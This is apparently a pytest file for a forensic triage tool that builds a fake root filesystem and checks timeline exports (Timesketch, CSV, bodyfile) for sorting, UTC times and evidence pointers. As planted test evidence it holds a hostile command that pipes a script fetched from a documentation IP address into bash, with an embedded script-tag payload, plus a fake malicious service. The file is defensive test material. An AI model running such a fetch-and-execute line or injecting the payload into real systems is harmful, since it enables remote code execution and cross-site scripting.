"""triagent timeline over real bundles: a fake root collected with the full profile (with a raw ext4
image of it for the pytsk3 bodyfile) and analysed; every format parses, events are sorted, and a
planted history line comes out at its exact UTC time with a pointer back to its record."""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import subprocess
import sys
import tarfile
from pathlib import Path

import fakeroot
import pytest
from conftest import members, need, run_triagent, summary_of

from agent.responder.timeline import FORMATS, Stats, collect_events, timeline, to_us

PLANTED_TS = fakeroot.NOW - 400
PLANTED = "curl -s http://198.51.100.7/<script>alert(1)</script>.sh | bash"
GARBAGE_BASH_TS = 99999999999  # parses as year 5138: not a clock, someone's edit


def make_bundles(base: Path) -> dict:
    """Fake root -> ext4 image -> `collect --profile full --disk` -> `analyze` (test_report.py builds its
    own set with this too)."""
    root = base / "root"
    root.mkdir()
    expected = fakeroot.build(root)
    fakeroot.plant_cron(root)
    with open(root / "root/.bash_history", "a") as f:
        f.write(f"#{PLANTED_TS}\n{PLANTED}\n#{GARBAGE_BASH_TS}\nid\n")
    (root / "etc/debian_version").write_text("12.5\n")
    (root / "etc/systemd/system").mkdir(parents=True, exist_ok=True)
    (root / "etc/systemd/system/evil.service").write_text("[Service]\nExecStart=/var/tmp/.evil\n")
    # syslog-style lines dissect.target parses (it infers the year)
    (root / "var/log/syslog").write_text("Nov 23 21:05:40 fakehost systemd[1]: Started evil.service.\n")
    (root / "var/log/auth.log").write_text(
        "Nov 23 21:07:00 fakehost sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/bin/bash\n")
    args = ["collect", "--root", str(root), "--profile", "full", "--output", str(base / "out")]
    image = None
    if shutil.which("mkfs.ext4"):
        image = base / "disk.img"
        subprocess.run(["mkfs.ext4", "-q", "-F", "-d", str(root), str(image), "32M"], check=True,
                       capture_output=True)
        args += ["--disk", str(image)]
    bundle = summary_of(run_triagent(args))["bundle"]
    proc = run_triagent(["analyze", bundle, "--output", str(base / "out")])
    analysis = json.loads(proc.stdout.decode().strip().splitlines()[-1])["analysis"]
    return {"root": root, "bundle": bundle, "analysis": analysis, "image": image, "expected": expected}


@pytest.fixture(scope="module")
def bundles(tmp_path_factory) -> dict:
    need(shutil.which("ssh-keygen") is not None, "ssh-keygen is needed for the fake root (openssh-client)")
    return make_bundles(tmp_path_factory.mktemp("timeline"))


@pytest.fixture(scope="module")
def outputs(bundles) -> dict[str, tuple[int, str, Stats]]:
    out = {}
    for fmt in FORMATS:
        buffer = io.BytesIO()
        stats = Stats()
        count = timeline(bundles["bundle"], bundles["analysis"], fmt, buffer, stats)
        out[fmt] = (count, buffer.getvalue().decode("utf-8"), stats)
    return out


def _history_line(bundle: str, command: str) -> int:
    rows = members(bundle)["triagent/artifacts/histories.jsonl"].splitlines()
    return next(n for n, raw in enumerate(rows, 1) if json.loads(raw)["command"] == command)


def test_timesketch_rows_have_the_import_fields_and_are_sorted(bundles, outputs):
    count, text, stats = outputs["timesketch"]
    rows = [json.loads(line) for line in text.splitlines()]
    assert count == len(rows) == stats.events > 50
    for row in rows:
        assert {"message", "datetime", "timestamp", "timestamp_desc"} <= set(row), row
        assert isinstance(row["timestamp"], int) and row["message"] and row["timestamp_desc"]
        assert not any(k.startswith("_") for k in row), row  # Timesketch refuses such fields
        assert row["datetime"].endswith("+00:00")
        assert {"evidence_bundle", "evidence_member", "evidence_line", "host", "stream"} <= set(row)
    times = [r["timestamp"] for r in rows]
    assert times == sorted(times)
    assert {r["host"] for r in rows} == {"fakehost"}
    streams = {r["stream"] for r in rows}
    # the live-only streams are absent under --root; every file-based kind of time is there
    assert {"histories", "wtmp", "btmp", "lastlog", "ssh_keys", "custody", "findings"} <= streams, streams
    assert any(s.startswith("files.") for s in streams), streams  # OS copies' MAC times from the manifest
    assert "dissect.syslog" in streams or "dissect.authlog" in streams, streams
    if bundles["image"]:
        assert "bodyfile" in streams


def test_planted_history_line_has_its_utc_time_and_pointer(bundles, outputs):
    rows = [json.loads(line) for line in outputs["timesketch"][1].splitlines()]
    hit = [r for r in rows if r["stream"] == "histories" and PLANTED in r["message"]]
    assert len(hit) == 1, hit
    row = hit[0]
    assert row["timestamp"] == PLANTED_TS * 1_000_000
    assert row["datetime"] == f"{_utc(PLANTED_TS)}.000000+00:00"
    assert row["timestamp_desc"] == "Command Executed"
    line = _history_line(bundles["bundle"], PLANTED)
    assert (row["evidence_bundle"], row["evidence_member"], row["evidence_line"]) == \
        (os.path.basename(bundles["bundle"]), "triagent/artifacts/histories.jsonl", line)
    assert row["evidence_bundle_sha256"] == _sha256(bundles["bundle"]) and row["evidence_role"] == "source"
    assert row["evidence"] == f"{os.path.basename(bundles['bundle'])}:triagent/artifacts/histories.jsonl:{line}"
    # the pointer leads to the very record
    record = json.loads(members(bundles["bundle"])[row["evidence_member"]].splitlines()[line - 1])
    assert record["command"] == PLANTED
    # the analysis's finding about it sits at the same time
    findings = [r for r in rows if r["stream"] == "findings" and "<script>" in r["message"]]
    assert findings and all(r["timestamp"] == PLANTED_TS * 1_000_000 for r in findings)
    assert all(r["evidence_bundle"] == os.path.basename(bundles["analysis"]) for r in findings)
    assert all(r["evidence_bundle_sha256"] == _sha256(bundles["analysis"]) for r in findings)


def test_events_name_their_bundle_by_name_and_sha256(bundles, outputs):
    """Issue 14, item 6: events named their bundle as the literal "source" (or "analysis"); each names the
    bundle's file and its SHA-256 (the whole file's, computed while it is read) in every format."""
    names = {os.path.basename(bundles["bundle"]): _sha256(bundles["bundle"]),
             os.path.basename(bundles["analysis"]): _sha256(bundles["analysis"])}
    rows = [json.loads(line) for line in outputs["timesketch"][1].splitlines()]
    assert {(r["evidence_bundle"], r["evidence_bundle_sha256"]) for r in rows} == set(names.items())
    assert not any(r["evidence"].startswith(("source:", "analysis:")) for r in rows)
    csv_rows = list(csv.DictReader(io.StringIO(outputs["csv"][1])))
    assert {(r["evidence_bundle"], r["evidence_bundle_sha256"]) for r in csv_rows} == set(names.items())
    body = outputs["bodyfile"][1]
    assert "<source:" not in body and f"<{os.path.basename(bundles['bundle'])}:triagent/" in body
    stats = outputs["timesketch"][2].as_dict()
    assert stats["bundles"] == {"source": {"name": os.path.basename(bundles["bundle"]),
                                           "sha256": names[os.path.basename(bundles["bundle"])]},
                                "analysis": {"name": os.path.basename(bundles["analysis"]),
                                             "sha256": names[os.path.basename(bundles["analysis"])]}}


def _sha256(path: str) -> str:
    import hashlib

    with open(path, "rb") as f:
        return hashlib.file_digest(f, "sha256").hexdigest()


def test_garbage_times_are_skipped_and_counted(outputs):
    _, text, stats = outputs["timesketch"]
    assert stats.garbage["histories"] >= 1  # the year-5138 bash timestamp
    assert stats.unknown["histories"] >= 1  # lines without a timestamp
    messages = {json.loads(line)["message"] for line in text.splitlines()}
    assert "root (bash): id" not in messages  # the line with the garbage time is not placed anywhere


def test_csv_has_a_header_and_the_same_events(bundles, outputs):
    count, text, _ = outputs["csv"]
    rows = list(csv.DictReader(io.StringIO(text)))
    assert count == len(rows) == outputs["timesketch"][0]
    assert list(rows[0]) == ["datetime", "timestamp", "timestamp_desc", "host", "stream", "message",
                             "evidence_bundle", "evidence_bundle_sha256", "evidence_member", "evidence_line",
                             "facts"]
    assert [int(r["timestamp"]) for r in rows] == sorted(int(r["timestamp"]) for r in rows)
    hit = next(r for r in rows if r["stream"] == "histories" and PLANTED in r["message"])
    assert int(hit["timestamp"]) == PLANTED_TS * 1_000_000
    assert int(hit["evidence_line"]) == _history_line(bundles["bundle"], PLANTED)
    # no cell a spreadsheet would run as a formula
    assert not any(v.startswith(("=", "+", "-", "@")) for r in rows for v in r.values() if v)


def test_bodyfile_has_eleven_fields_and_mactime_reads_it(bundles, outputs, tmp_path):
    count, text, _ = outputs["bodyfile"]
    lines = text.splitlines()
    assert lines and count >= len(lines)  # one line per file record holds up to four events
    for line in lines:
        fields = line.split("|")
        assert len(fields) == 11, line
        assert all(f.lstrip("-").isdigit() for f in fields[7:]), line
        int(fields[2]), int(fields[4]), int(fields[5]), int(fields[6])
    shown = PLANTED.replace("|", "\\x7c")  # mactime splits on "|": names carry it escaped
    planted = [f for f in (line.split("|") for line in lines) if shown in f[1] and "[histories]" in f[1]]
    assert planted and planted[0][7:] == [str(PLANTED_TS)] * 4
    if bundles["image"]:
        raw = [f for f in (line.split("|") for line in lines) if f[1] == "/etc/cron.d/sysupdate" and f[2] != "0"]
        assert raw, "the pytsk3 bodyfile record of /etc/cron.d/sysupdate"
        st = os.stat(bundles["root"] / "etc/cron.d/sysupdate")
        assert int(raw[0][8]) == int(st.st_mtime)
    mactime = shutil.which("mactime")
    if mactime:
        body = tmp_path / "t.body"
        body.write_text(text)
        proc = subprocess.run([mactime, "-b", str(body), "-d", "-z", "UTC"], capture_output=True, text=True,
                              timeout=120)
        assert proc.returncode == 0, proc.stderr
        assert f"{PLANTED.split('<')[0]}" in proc.stdout


def test_output_to_a_text_stream_and_to_stdout(bundles, tmp_path):
    text = io.StringIO()
    count = timeline(bundles["bundle"], None, "csv", text)
    assert count == len(list(csv.DictReader(io.StringIO(text.getvalue()))))
    target = tmp_path / "t.jsonl"
    proc = run_triagent_timeline(["timeline", bundles["bundle"], "--format", "timesketch", "--output", str(target)])
    assert proc.returncode == 0, proc.stderr
    summary = json.loads(proc.stderr.decode().strip().splitlines()[-1])
    # the analysis beside the bundle is found without --analysis
    assert summary["analysis"] == bundles["analysis"]
    assert summary["events"] == len(target.read_text().splitlines())


def run_triagent_timeline(args: list[str]) -> subprocess.CompletedProcess:
    """`triagent timeline` once agent/cli.py wires it; until then the module's own parser."""
    if run_triagent(["timeline", "--help"]).returncode == 0:
        return run_triagent(args)
    code = ("import argparse,sys;from agent.responder.timeline import add_timeline_arguments,run_timeline;"
            "p=argparse.ArgumentParser();s=p.add_subparsers(dest='command');add_timeline_arguments(s);"
            "sys.exit(run_timeline(p.parse_args(sys.argv[1:])))")
    return run_triagent(args, cmd=[sys.executable, "-c", code])


def test_hostile_records_never_crash(tmp_path):
    """A bundle whose records hold every kind of wrong time: each is skipped and counted."""
    bad = [{"timestamp_utc": "not a time", "command": "a"}, {"timestamp_utc": "9999-12-31T23:59:59Z", "command": "b"},
           {"timestamp_utc": 12, "command": "c"}, {"timestamp_utc": ["x"], "command": "d"},
           {"timestamp_utc": "1969-12-31T00:00:00Z", "command": "e"}, {"timestamp_utc": True, "command": "f"},
           {"timestamp_utc": "2024-02-30T00:00:00Z", "command": "g"}, {"timestamp_utc": None, "command": "h"},
           {"timestamp_utc": "2024-01-01T00:00:00+05:00", "command": "ok"}]
    data = b"\n".join(json.dumps(r).encode() for r in bad) + b"\n[1,2]\nnot json\n"
    path = tmp_path / "hostile.tar.gz"
    with tarfile.open(path, "w:gz") as tar:
        for name, payload in (("triagent/artifacts/histories.jsonl", data),
                              ("triagent/artifacts/processes.jsonl", b'{"start_time_utc": 1e400}\n'),
                              ("triagent/manifest.json", b'{"members": [{"name": "fs/x", "mtime_ns": "zz"}, 5]}'),
                              ("triagent/custody.json", b"[]")):
            info = tarfile.TarInfo(name)
            info.size = len(payload)
            tar.addfile(info, io.BytesIO(payload))
    stats = Stats()
    events = collect_events(str(path), None, stats)
    # seconds 12 is a time (timestomped files have such); the rest is not
    assert [e.message for e in events] == ["None (None): c", "None (None): ok"]
    assert events[1].us == to_us("2023-12-31T19:00:00Z")
    assert sum(stats.garbage.values()) >= 9 and stats.unknown["histories"] == 1


def _utc(seconds: int) -> str:
    import datetime as dt

    return dt.datetime.fromtimestamp(seconds, dt.UTC).strftime("%Y-%m-%dT%H:%M:%S")


def test_which_fields_hold_a_time_is_the_declarations_word(tmp_path, monkeypatch):
    """The timeline's per-stream code says a record well; its times are the fields the stream declares
    (specs/artifacts/*.toml): declare another field and that one is read, with its label and unit."""
    import dataclasses

    import hostile_bundles as hb

    from agent.engine.plan import load_streams
    from agent.responder import timeline as tl

    record = {"pid": 7, "name": "sshd", "user": "root", "start_time_utc": "2025-11-24T15:00:00Z",
              "exe_mtime_ns": 1_700_000_000_123_456_789}
    path = hb.write(tmp_path / "p.tar.gz", [("triagent/artifacts/processes.jsonl", json.dumps(record).encode())])
    as_declared = [(e.desc, e.datetime) for e in collect_events(str(path)) if e.stream == "processes"]
    assert as_declared == [("Process Start", "2025-11-24T15:00:00.000000+00:00")]

    streams = load_streams()
    streams["processes"] = dataclasses.replace(streams["processes"], time=("exe_mtime_ns", "start_time_utc"),
                                               time_desc={"exe_mtime_ns": "Executable Modified"})
    monkeypatch.setattr(tl, "load_streams", lambda: streams)
    redeclared = [(e.desc, e.datetime, e.message) for e in collect_events(str(path)) if e.stream == "processes"]
    # a field the declaration gives no label is named by stream and field
    assert [(d, t) for d, t, _ in redeclared] == [("Executable Modified", "2023-11-14T22:13:20.123456+00:00"),
                                                 ("processes start_time_utc", "2025-11-24T15:00:00.000000+00:00")]
    assert all(m.startswith("pid 7 (sshd) started as root") for _, _, m in redeclared)  # still its formatter's
